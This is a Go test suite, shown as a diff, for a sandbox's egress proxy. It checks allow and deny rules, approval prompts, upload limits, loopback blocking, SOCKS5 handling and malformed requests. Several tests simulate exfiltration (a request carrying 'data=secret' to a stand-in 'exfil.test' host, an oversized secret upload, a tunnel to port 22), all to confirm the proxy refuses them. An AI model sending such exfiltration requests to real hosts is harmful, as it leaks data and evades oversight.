@@ -1,0 +1,465 @@
+package netproxy
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"crypto/tls"
+	"crypto/x509"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/netip"
+	"net/url"
+	"path/filepath"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/chaperone-dev/chaperone/config"
+	"github.com/chaperone-dev/chaperone/models"
+)
+
+// world is a proxy served on a unix socket, with the forwarder a sandbox
+// would run in front of it, and local upstreams. Nothing here leaves
+// 127.0.0.0/8: every name is pinned.
+type world struct {
+	t     *testing.T
+	proxy *Proxy
+	sock  string
+	port  int // the forwarder's
+	warn  *syncBuffer
+	asks  atomic.Int32
+	ask   func(Request) models.Verdict
+}
+
+type syncBuffer struct {
+	mu sync.Mutex
+	b  bytes.Buffer
+}
+
+func (s *syncBuffer) Write(p []byte) (int, error) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.Write(p)
+}
+
+func (s *syncBuffer) String() string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.String()
+}
+
+func newWorld(t *testing.T, n config.NetworkConfig) *world {
+	t.Helper()
+	pol, err := NewPolicy(n, "/project")
+	if err != nil {
+		t.Fatal(err)
+	}
+	w := &world{t: t, warn: &syncBuffer{}}
+	w.proxy = &Proxy{Policy: pol, Warn: w.warn,
+		Resolve: func(ctx context.Context, h string) ([]netip.Addr, error) {
+			return nil, fmt.Errorf("test resolver: %s is not pinned (a test must not resolve real names)", h)
+		},
+		Ask: func(ctx context.Context, r Request) models.Verdict {
+			w.asks.Add(1)
+			if w.ask == nil {
+				return models.Verdict{By: models.ByNoPanel, Reason: "no approval panel is running"}
+			}
+			return w.ask(r)
+		},
+	}
+	w.sock = filepath.Join(t.TempDir(), "egress.sock")
+	l, err := net.Listen("unix", w.sock)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	go w.proxy.Serve(ctx, l)
+	t.Cleanup(func() { cancel(); w.proxy.Close() })
+	w.port, err = Forward(w.sock)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return w
+}
+
+// client is an HTTP client that uses the forwarder as its proxy and
+// trusts roots.
+func (w *world) client(roots *x509.CertPool) *http.Client {
+	pu, _ := url.Parse(fmt.Sprintf("http://127.0.0.1:%d", w.port))
+	return &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
+		Proxy:           http.ProxyURL(pu),
+		TLSClientConfig: &tls.Config{RootCAs: roots},
+	}}
+}
+
+// upstream is a local server counting its requests.
+type upstream struct {
+	*httptest.Server
+	hits atomic.Int32
+	body atomic.Int64
+}
+
+func newUpstream(t *testing.T, tlsOn bool) *upstream {
+	u := &upstream{}
+	h := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+		u.hits.Add(1)
+		n, _ := io.Copy(io.Discard, r.Body)
+		u.body.Add(n)
+		fmt.Fprintf(rw, "hello from %s, got %d bytes", r.Host, n)
+	})
+	if tlsOn {
+		u.Server = httptest.NewTLSServer(h)
+	} else {
+		u.Server = httptest.NewServer(h)
+	}
+	t.Cleanup(u.Close)
+	return u
+}
+
+func (u *upstream) addr() string { return u.Listener.Addr().String() }
+
+func roots(u *upstream) *x509.CertPool {
+	p := x509.NewCertPool()
+	p.AddCert(u.Certificate())
+	return p
+}
+
+func TestProxyAllowedNameArrives(t *testing.T) {
+	t.Parallel()
+	plain, secure := newUpstream(t, false), newUpstream(t, true)
+	w := newWorld(t, config.NetworkConfig{
+		Allow: []string{"plain.test", "example.com"},
+		// example.com is the name in httptest's certificate.
+		Hosts: map[string]string{"plain.test": plain.addr(), "example.com": secure.addr()},
+	})
+	c := w.client(roots(secure))
+	for _, u := range []string{"http://plain.test/x", "https://example.com/y"} {
+		resp, err := c.Get(u)
+		if err != nil {
+			t.Fatalf("GET %s: %v", u, err)
+		}
+		b, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		if resp.StatusCode != 200 || !strings.HasPrefix(string(b), "hello from ") {
+			t.Fatalf("GET %s: %d %q", u, resp.StatusCode, b)
+		}
+	}
+	w.proxy.Close()
+	conns := w.proxy.Connections()
+	if len(conns) != 2 {
+		t.Fatalf("recorded %d connections, want 2: %+v", len(conns), conns)
+	}
+	if c := conns[0]; c.Host != "plain.test" || c.Port != 80 || c.Method != "GET" || !c.Allowed || c.By != models.ByList || c.Up == 0 || c.Down == 0 {
+		t.Errorf("plain record: %+v", c)
+	}
+	if c := conns[1]; c.Host != "example.com" || c.Port != 443 || c.Method != "CONNECT" || !c.Allowed || c.Up == 0 || c.Down == 0 {
+		t.Errorf("tunnel record: %+v", c)
+	}
+	if w.asks.Load() != 0 || w.warn.String() != "" {
+		t.Errorf("an allowed host asked (%d) or warned (%q)", w.asks.Load(), w.warn.String())
+	}
+}
+
+func TestProxyUnknownHostRefusedWithoutPanel(t *testing.T) {
+	t.Parallel()
+	up := newUpstream(t, true)
+	w := newWorld(t, config.NetworkConfig{Hosts: map[string]string{"exfil.test": up.addr()}})
+	resp, err := w.client(roots(up)).Get("http://exfil.test/?data=secret")
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusForbidden || !strings.Contains(string(b), "exfil.test refused") {
+		t.Errorf("unknown host: %d %q, want 403 naming the host", resp.StatusCode, b)
+	}
+	if _, err := w.client(roots(up)).Get("https://exfil.test/"); err == nil {
+		t.Error("a CONNECT to an unknown host went through")
+	}
+	if up.hits.Load() != 0 {
+		t.Errorf("the unknown host got %d requests", up.hits.Load())
+	}
+	if got := w.warn.String(); strings.Count(got, "\n") != 1 || !strings.HasPrefix(got, "chaperone: network: exfil.test refused: ") {
+		t.Errorf("stderr got %q, want one line for the host", got)
+	}
+	for _, c := range w.proxy.Connections() {
+		if c.Allowed || c.By != models.ByNoPanel || c.Reason == "" {
+			t.Errorf("record %+v, want refused by no-panel with a reason", c)
+		}
+	}
+}
+
+func TestProxyPersonAnswersOncePerHost(t *testing.T) {
+	t.Parallel()
+	up := newUpstream(t, false)
+	w := newWorld(t, config.NetworkConfig{Hosts: map[string]string{"new.test": up.addr(), "no.test": up.addr()}})
+	w.ask = func(r Request) models.Verdict {
+		time.Sleep(50 * time.Millisecond) // the others queue behind the question
+		return models.Verdict{Approved: r.Host == "new.test", By: models.ByPerson}
+	}
+	c := w.client(nil)
+	var wg sync.WaitGroup
+	var ok, refused atomic.Int32
+	for i := 0; i < 6; i++ {
+		wg.Add(1)
+		go func(i int) {
+			defer wg.Done()
+			host := []string{"new.test", "no.test"}[i%2]
+			resp, err := c.Get("http://" + host + "/")
+			if err != nil {
+				t.Error(err)
+				return
+			}
+			resp.Body.Close()
+			if resp.StatusCode == 200 {
+				ok.Add(1)
+			} else {
+				refused.Add(1)
+			}
+		}(i)
+	}
+	wg.Wait()
+	w.proxy.Close()
+	if ok.Load() != 3 || refused.Load() != 3 {
+		t.Errorf("%d through, %d refused; want 3 and 3", ok.Load(), refused.Load())
+	}
+	if w.asks.Load() != 2 {
+		t.Errorf("asked %d times, want once per host", w.asks.Load())
+	}
+	if up.hits.Load() != 3 {
+		t.Errorf("upstream saw %d requests, want 3", up.hits.Load())
+	}
+	for _, r := range w.proxy.Connections() {
+		if r.Allowed != (r.Host == "new.test") || r.By != models.ByPerson {
+			t.Errorf("record %+v", r)
+		}
+	}
+}
+
+func TestProxyNameLeadingHomeRefused(t *testing.T) {
+	t.Parallel()
+	up := newUpstream(t, false)
+	w := newWorld(t, config.NetworkConfig{Allow: []string{"allowed.test", "10.9.9.9"}})
+	// An allowed name whose DNS answer is this machine, or its network.
+	w.proxy.Resolve = func(ctx context.Context, h string) ([]netip.Addr, error) {
+		return []netip.Addr{netip.MustParseAddrPort(up.addr()).Addr()}, nil
+	}
+	resp, err := w.client(nil).Get("http://allowed.test:" + fmt.Sprint(netip.MustParseAddrPort(up.addr()).Port()) + "/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.StatusCode == 200 || up.hits.Load() != 0 || !strings.Contains(string(b), "an address of this machine") {
+		t.Errorf("an allowed name leading to loopback: %d %q, %d hits", resp.StatusCode, b, up.hits.Load())
+	}
+	// An IP literal of the host: refused without asking.
+	resp, err = w.client(nil).Get("http://" + up.addr() + "/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusForbidden || up.hits.Load() != 0 || w.asks.Load() != 0 {
+		t.Errorf("127.0.0.1 literal: %d, %d hits, %d asks", resp.StatusCode, up.hits.Load(), w.asks.Load())
+	}
+}
+
+func TestProxyDenyBeatsAllow(t *testing.T) {
+	t.Parallel()
+	up := newUpstream(t, false)
+	w := newWorld(t, config.NetworkConfig{Allow: []string{"*.corp.test"}, Deny: []string{"paste.corp.test"},
+		Hosts: map[string]string{"paste.corp.test": up.addr(), "git.corp.test": up.addr()}})
+	w.ask = func(Request) models.Verdict { return models.Verdict{Approved: true, By: models.ByPerson} }
+	for host, want := range map[string]int{"paste.corp.test": 403, "git.corp.test": 200} {
+		resp, err := w.client(nil).Get("http://" + host + "/")
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		if resp.StatusCode != want {
+			t.Errorf("%s: %d, want %d", host, resp.StatusCode, want)
+		}
+	}
+	if w.asks.Load() != 0 {
+		t.Error("a denied host was asked about (deny must refuse without asking)")
+	}
+}
+
+func TestProxyUploadHeld(t *testing.T) {
+	t.Parallel()
+	up := newUpstream(t, true)
+	w := newWorld(t, config.NetworkConfig{Allow: []string{"example.com"}, Hosts: map[string]string{"example.com": up.addr()},
+		UploadLimit: config.Size{Bytes: 16 << 10, Set: true}})
+	var held []Request
+	var mu sync.Mutex
+	w.ask = func(r Request) models.Verdict {
+		mu.Lock()
+		held = append(held, r)
+		mu.Unlock()
+		return models.Verdict{By: models.ByPerson}
+	}
+	c := w.client(roots(up))
+	// A small post passes without a question.
+	resp, err := c.Post("https://example.com/small", "text/plain", strings.NewReader("ok"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if w.asks.Load() != 0 {
+		t.Fatal("a small upload was held")
+	}
+	// A large one is stopped at the limit.
+	big := bytes.Repeat([]byte("s3cr3t"), 20<<10)
+	if resp, err := c.Post("https://example.com/big", "application/octet-stream", bytes.NewReader(big)); err == nil {
+		resp.Body.Close()
+		if resp.StatusCode == 200 {
+			t.Error("a 120 KiB upload went through")
+		}
+	}
+	w.proxy.Close()
+	mu.Lock()
+	defer mu.Unlock()
+	if len(held) != 1 || held[0].Upload <= 16<<10 || held[0].Host != "example.com" {
+		t.Errorf("held %+v, want one upload question past 16 KiB", held)
+	}
+	if got := up.body.Load(); got >= int64(len(big)) {
+		t.Errorf("the host received %d bytes of a refused upload", got)
+	}
+	var sawHeld bool
+	for _, r := range w.proxy.Connections() {
+		sawHeld = sawHeld || (r.Held && !r.Allowed && r.Up <= 16<<10+4096)
+	}
+	if !sawHeld {
+		t.Errorf("no record of the held upload: %+v", w.proxy.Connections())
+	}
+}
+
+func TestProxyUploadToRegistryNotHeld(t *testing.T) {
+	t.Parallel()
+	up := newUpstream(t, false)
+	w := newWorld(t, config.NetworkConfig{Hosts: map[string]string{"registry.npmjs.org": up.addr()},
+		UploadLimit: config.Size{Bytes: 1024, Set: true}})
+	resp, err := w.client(nil).Post("http://registry.npmjs.org/-/npm/v1/security/audits", "application/json", bytes.NewReader(make([]byte, 8192)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != 200 || w.asks.Load() != 0 {
+		t.Errorf("a registry upload: %d, %d questions", resp.StatusCode, w.asks.Load())
+	}
+}
+
+func TestProxySessionUploadsCount(t *testing.T) {
+	t.Parallel()
+	up := newUpstream(t, false)
+	w := newWorld(t, config.NetworkConfig{Allow: []string{"api.test"}, Hosts: map[string]string{"api.test": up.addr()},
+		UploadLimit: config.Size{Bytes: 4096, Set: true}})
+	// Earlier commands of the session sent 4000 bytes: a 200-byte post
+	// now passes the limit (an upload split across commands).
+	w.proxy.Uploaded = func(h string) (int64, bool) { return 4000, false }
+	resp, err := w.client(nil).Post("http://api.test/", "text/plain", bytes.NewReader(make([]byte, 200)))
+	if err == nil {
+		resp.Body.Close()
+	}
+	if w.asks.Load() != 1 {
+		t.Errorf("asked %d times, want 1", w.asks.Load())
+	}
+}
+
+func TestProxySOCKS5(t *testing.T) {
+	t.Parallel()
+	up := newUpstream(t, false)
+	w := newWorld(t, config.NetworkConfig{Allow: []string{"socks.test"}, Hosts: map[string]string{"socks.test": up.addr(), "other.test": up.addr()}})
+	get := func(host string) (code byte, body string) {
+		c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", w.port))
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer c.Close()
+		c.SetDeadline(time.Now().Add(5 * time.Second))
+		c.Write([]byte{5, 1, 0})
+		var hello [2]byte
+		io.ReadFull(c, hello[:])
+		req := append([]byte{5, 1, 0, 3, byte(len(host))}, host...)
+		req = binary.BigEndian.AppendUint16(req, 80)
+		c.Write(req)
+		var rep [10]byte
+		if _, err := io.ReadFull(c, rep[:]); err != nil {
+			t.Fatal(err)
+		}
+		if rep[1] != 0 {
+			return rep[1], ""
+		}
+		fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", host)
+		b, _ := io.ReadAll(bufio.NewReader(c))
+		return 0, string(b)
+	}
+	if code, body := get("socks.test"); code != 0 || !strings.Contains(body, "hello from socks.test") {
+		t.Errorf("allowed over SOCKS5: code %d, %q", code, body)
+	}
+	if code, _ := get("other.test"); code != socksForbidden {
+		t.Errorf("unknown over SOCKS5: code %d, want %d (not allowed by ruleset)", code, socksForbidden)
+	}
+	if up.hits.Load() != 1 {
+		t.Errorf("upstream hits %d, want 1", up.hits.Load())
+	}
+}
+
+func TestForwardProxyGone(t *testing.T) {
+	t.Parallel()
+	port, err := Forward(filepath.Join(t.TempDir(), "nothing.sock"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	pu, _ := url.Parse(fmt.Sprintf("http://127.0.0.1:%d", port))
+	c := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{Proxy: http.ProxyURL(pu)}}
+	resp, err := c.Get("http://registry.npmjs.org/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusBadGateway || !strings.Contains(string(b), "egress proxy is not running") {
+		t.Errorf("proxy gone: %d %q", resp.StatusCode, b)
+	}
+}
+
+func TestProxyGarbage(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t, config.NetworkConfig{})
+	for _, in := range []string{
+		"GET /relative HTTP/1.1\r\nHost: x\r\n\r\n",
+		"CONNECT nohostport HTTP/1.1\r\n\r\n",
+		"CONNECT 127.0.0.1:22 HTTP/1.1\r\n\r\n",
+		"GET https://registry.npmjs.org/ HTTP/1.1\r\n\r\n",
+		"\x05\x01\x02", // SOCKS5 with only user/password
+		"\x05\x01\x00\x05\x02\x00\x01\x7f\x00\x00\x01\x00\x16", // SOCKS5 BIND
+		"not http at all\r\n\r\n",
+	} {
+		c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", w.port))
+		if err != nil {
+			t.Fatal(err)
+		}
+		c.SetDeadline(time.Now().Add(5 * time.Second))
+		io.WriteString(c, in)
+		b, _ := io.ReadAll(c)
+		c.Close()
+		// SOCKS5: the greeting's answer (5 0) is followed by the request's,
+		// whose code must not be 0 (granted).
+		if bytes.HasPrefix(b, []byte("HTTP/1.1 200")) || (len(b) >= 4 && b[0] == 5 && b[2] == 5 && b[3] == 0) {
+			t.Errorf("%q got a success: %q", in, b)
+		}
+	}
+	for _, r := range w.proxy.Connections() {
+		if r.Allowed {
+			t.Errorf("garbage made an allowed connection: %+v", r)
+		}
+	}
+}
